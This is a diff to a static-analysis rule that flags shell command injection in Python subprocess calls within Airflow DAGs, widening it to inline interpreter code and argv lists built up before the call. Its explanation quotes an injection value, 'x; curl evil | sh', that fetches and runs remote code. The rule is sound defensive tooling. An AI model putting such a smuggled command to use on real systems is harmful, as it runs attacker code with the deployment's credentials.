@@ -22,7 +22,7 @@ export default defineRule({
     aliases: ['B602', 'B604', 'S602', 'S604', 'B605', 'S605'],
     docs: {
       what:
-        'Finds `subprocess.run`/`call`/`check_call`/`check_output`/`Popen` with a truthy `shell=`, `subprocess.getoutput`/`getstatusoutput`, and any of them given an argv of the form `["sh", "-c", script]`, when the shell script is not constant. Names are followed to their assignment, loop or parameter: constants, module paths (`os.path.join(os.path.dirname(__file__), …)`), `shlex.quote(…)`, numbers and values checked against an allow list or a strict pattern first (`if t not in TABLES: raise`, `if not re.fullmatch(…, t): raise`, `assert t in TABLES`) are fine; Variables, environment values and other tasks\' output (XComs) are *medium*; parameters of TaskFlow tasks and `python_callable`s are judged at their call sites in the file (constants there are fine; with no call site, or one that does not show the value, *medium*); `dag_run.conf`, `params` and values of unknown origin are *high*. A constant command with `shell=True` is not reported (no input, no injection).',
+        'Finds `subprocess.run`/`call`/`check_call`/`check_output`/`Popen` with a truthy `shell=`, `subprocess.getoutput`/`getstatusoutput`, and any of them given an argv of the form `["sh", "-c", script]` (or an interpreter\'s inline code: `["python", "-c", code]`, `perl -e`, `node -e`, `php -r`), when the shell script is not constant. Names are followed to their assignment, loop or parameter: constants, module paths (`os.path.join(os.path.dirname(__file__), …)`), `shlex.quote(…)`, numbers and values checked against an allow list or a strict pattern first (`if t not in TABLES: raise`, `if not re.fullmatch(…, t): raise`, `assert t in TABLES`) are fine; Variables, environment values and other tasks\' output (XComs) are *medium*; parameters of TaskFlow tasks and `python_callable`s are judged at their call sites in the file (constants there are fine; with no call site, or one that does not show the value, *medium*); `dag_run.conf`, `params` and values of unknown origin are *high*. A constant command with `shell=True` is not reported (no input, no injection).',
       why:
         'The shell interprets `;`, `|`, `$(…)`, backquotes and newlines in the spliced value: a table name like `x; curl evil | sh` runs an attacker\'s command on the worker (or, at parse time, in the dag-processor) with the deployment\'s credentials. Values in DAGs come from `dag_run.conf`, params and XComs, which anyone allowed to trigger a DAG or to write upstream data controls.',
       example:
@@ -39,14 +39,15 @@ export default defineRule({
     else if (SHELL_FLAG.has(fn)) {
       const cmd = argument(args, 'args', 0);
       if (!cmd) return;
-      let u = unwrap(cmd);
-      // `cmd = ["sh", "-c", …]; subprocess.Popen(cmd)`: an argv bound once before the call
+      const u = unwrap(cmd);
+      const isList = (n: SyntaxNode) => n.type === 'list' || n.type === 'tuple';
+      let list = isList(u) ? u.namedChildren.filter((x) => x.type !== 'comment') : null;
+      // `argv = ["sh", "-c", …]; subprocess.Popen(argv)`: an argv bound before the call (and grown by `.append`/`+=`)
       if (u.type === 'identifier') {
-        const v = resolveName(u);
-        if (v.length === 1 && (unwrap(v[0]).type === 'list' || unwrap(v[0]).type === 'tuple')) u = unwrap(v[0]);
+        const v = resolveName(u).map(unwrap);
+        if (v.length && isList(v[0])) list = v.flatMap((d) => (isList(d) ? d.namedChildren.filter((x) => x.type !== 'comment') : [d]));
       }
       const shell = args.keywords.get('shell');
-      const list = u.type === 'list' || u.type === 'tuple' ? u.namedChildren.filter((x) => x.type !== 'comment') : null;
       if (shell && isTruthyConstant(shell)) script = list ? list[0] : cmd;
       else if (list) script = shellScriptInArgv(list) ?? undefined;
     } else return;
